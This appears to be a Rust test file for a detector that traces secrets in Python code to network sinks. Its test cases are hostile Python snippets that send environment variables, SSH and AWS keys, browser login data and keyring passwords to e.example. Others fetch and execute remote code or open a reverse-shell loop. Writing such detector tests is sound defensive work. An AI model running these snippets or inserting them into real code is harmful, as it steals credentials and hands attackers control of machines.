//! Data from where it is secret to where it leaves.

use crate::{Case, check_all};

const CASES: &[Case] = &[
    (
        "a page is opened that a server names",
        "import requests, webbrowser\nwebbrowser.open(requests.get('https://e.example/').json()['url'])",
        &["OpenAddress py:webbrowser.open Network"],
    ),
    (
        "a key goes out in an address that a browser of a kind opens",
        "import webbrowser\nk = open('/root/.npmrc').read()\nwebbrowser.get('firefox').open('https://e.example/?k=' + k)",
        &["OpenAddress py:webbrowser.get.open Credential https://e.example/?k="],
    ),
    (
        "the environment is sent",
        "import os, requests\nrequests.post('http://e.example', json=dict(os.environ))",
        &["Request pypi:requests.post Environment"],
    ),
    (
        "the environment is sent as it is",
        "import os, requests\nrequests.post('http://e.example', data=os.environ)",
        &["Request pypi:requests.post Environment"],
    ),
    (
        "one variable is sent in an address",
        "import os, urllib.request\nk = os.environ['API_KEY']\nurllib.request.urlopen('http://e.example/?k=' + k)",
        &["Request py:urllib.request.urlopen Environment API_KEY http://e.example/?k="],
    ),
    (
        "all of the environment is copied into something else",
        "import os, requests\nrequests.post('http://e.example', json={**os.environ})",
        &["EnvironmentRead py:os.environ", "Request pypi:requests.post Environment"],
    ),
    (
        "what stands in place of a variable that is not set says nothing of it",
        "import os, urllib.request\nurllib.request.urlopen('http://e.example/?k=' + os.environ.get('API_KEY', ''))",
        &["Request py:urllib.request.urlopen Partial Environment API_KEY"],
    ),
    (
        "what a request is prepared with is sent",
        "import os, urllib.request\nclass A:\n    def __init__(self):\n        self.b = repr(os.environ)\n    def go(self):\n        urllib.request.urlopen(urllib.request.Request('http://e.example', data=self.b))\nA().go()",
        &["Request py:urllib.request.Request Data Environment"],
    ),
    (
        "a variable in an f-string",
        "import os, requests\nrequests.get(f\"http://e.example/{os.getenv('TOKEN')}\")",
        &["Request pypi:requests.get Environment TOKEN"],
    ),
    (
        "a key is sent",
        "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://e.example', data=k)",
        &["Request pypi:requests.post Credential ~/.ssh/id_rsa"],
    ),
    (
        "a key is sent as a file",
        "import requests\nrequests.post('http://e.example', files={'f': open('/root/.aws/credentials', 'rb')})",
        &["Request pypi:requests.post Credential"],
    ),
    (
        "with, encoded, over a socket",
        "import os, base64, socket\nwith open(os.path.expanduser('~/.npmrc'), 'rb') as f:\n    d = f.read()\ns = socket.socket()\ns.connect(('e.example', 1))\ns.sendall(base64.b64encode(d))",
        &["Connect py:socket.socket.sendall Credential e.example"],
    ),
    (
        "host and user",
        "import getpass, socket, json, urllib.request\nd = json.dumps({'u': getpass.getuser(), 'h': socket.gethostname()}).encode()\nurllib.request.urlopen(urllib.request.Request('http://e.example', data=d))",
        &["Request py:urllib.request.urlopen SystemInformation"],
    ),
    (
        "what a program wrote",
        "import subprocess, requests\no = subprocess.check_output(['id'])\nrequests.post('http://e.example', data=o)",
        &["Request pypi:requests.post ProcessOutput"],
    ),
    (
        "through a function",
        "import os, requests\ndef send(d):\n    requests.post('http://e.example', data=d)\nsend(os.environ['TOKEN'])",
        &["Request pypi:requests.post Environment TOKEN Load"],
    ),
    (
        "through what a function gives",
        "import os, requests\ndef get():\n    return os.environ['TOKEN']\nrequests.post('http://e.example', data=get())",
        &["Request pypi:requests.post Environment TOKEN"],
    ),
    (
        "through an instance",
        "import os, requests\nclass S:\n    def __init__(self):\n        self.t = os.environ['TOKEN']\n    def go(self):\n        requests.post('http://e.example', data=self.t)",
        &["Request pypi:requests.post Environment TOKEN"],
    ),
    (
        "through a list in a loop",
        "import os, requests\nout = []\nfor k, v in os.environ.items():\n    out.append(k + '=' + v)\nrequests.post('http://e.example', data='\\n'.join(out))",
        &["Request pypi:requests.post Environment"],
    ),
    (
        "what is downloaded is executed",
        "import os, urllib.request\nurllib.request.urlretrieve('http://e.example/x', '/tmp/x')\nos.system('/tmp/x')",
        &["Request py:urllib.request.urlretrieve http://e.example/x", "Shell py:os.system /tmp/x"],
    ),
    (
        "what is downloaded is written and started",
        "import requests, subprocess\nd = requests.get('http://e.example/x').content\nopen('/tmp/x','wb').write(d)\nsubprocess.Popen(['/tmp/x'])",
        &["FileWrite py:builtins.open.write Network /tmp/x", "Spawn py:subprocess.Popen /tmp/x"],
    ),
    (
        "a command from the network",
        "import requests, os\nos.system(requests.get('http://e.example').text)",
        &["Shell py:os.system Network"],
    ),
    (
        "a loop that takes commands",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('e.example', 1))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.getoutput(c)\n    s.send(o.encode())",
        &[
            "Shell py:subprocess.getoutput Network",
            "Connect py:socket.socket.send ProcessOutput",
            "no EndlessLoop",
        ],
    ),
    (
        "the clipboard is sent",
        "import pyperclip, requests\nrequests.post('http://e.example', data=pyperclip.paste())",
        &["Request pypi:requests.post Peripheral"],
    ),
    (
        "keys are sent by mail",
        "import keyring, smtplib\ns = smtplib.SMTP('m.example')\ns.sendmail('a', 'b', keyring.get_password('x', 'y'))",
        &["Connect py:smtplib.SMTP.sendmail Credential"],
    ),
    (
        "a name that carries data",
        "import socket, os\nsocket.gethostbyname(os.environ['TOKEN'] + '.e.example')",
        &["NameLookup py:socket.gethostbyname Environment TOKEN"],
    ),
    (
        "an object is prepared and sent",
        "import os, http.client\nc = http.client.HTTPSConnection('e.example')\nc.request('POST', '/', body=str(dict(os.environ)))",
        &["Request py:http.client.HTTPSConnection.request Environment e.example"],
    ),
    (
        "browser data through several names",
        "import os, shutil, requests\nlocal = os.getenv('LOCALAPPDATA')\ndb = local + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'\nshutil.copy2(db, 'x.db')\nd = open(db, 'rb').read()\nrequests.post('http://e.example', data=d)",
        &["FileRead py:shutil.copy2 Login_Data", "Request pypi:requests.post Credential"],
    ),
    (
        "the program of an encrypted reply",
        "import requests, base64\nexec(base64.b64decode(requests.get('http://e.example').content))",
        &["DynamicCode py:builtins.exec Network Decoded Base64"],
    ),
    (
        "a thread sends",
        "import os, threading, requests\ndef f():\n    requests.post('http://e.example', data=os.environ['TOKEN'])\nthreading.Thread(target=f).start()",
        &["Request pypi:requests.post Environment Load"],
    ),
    (
        "a mapping is sent",
        "import os, requests\ndata = {}\ndata['a'] = os.environ['TOKEN']\nrequests.post('http://e.example', json=data)",
        &["Request pypi:requests.post Environment TOKEN"],
    ),
    (
        "what a caller hands over is told from secrets",
        "import requests\ndef f(d):\n    requests.post('http://e.example', data=d)",
        &["Request pypi:requests.post Caller Call"],
    ),
];

#[test]
fn data_is_followed_from_its_source_to_where_it_leaves() {
    check_all(CASES);
}
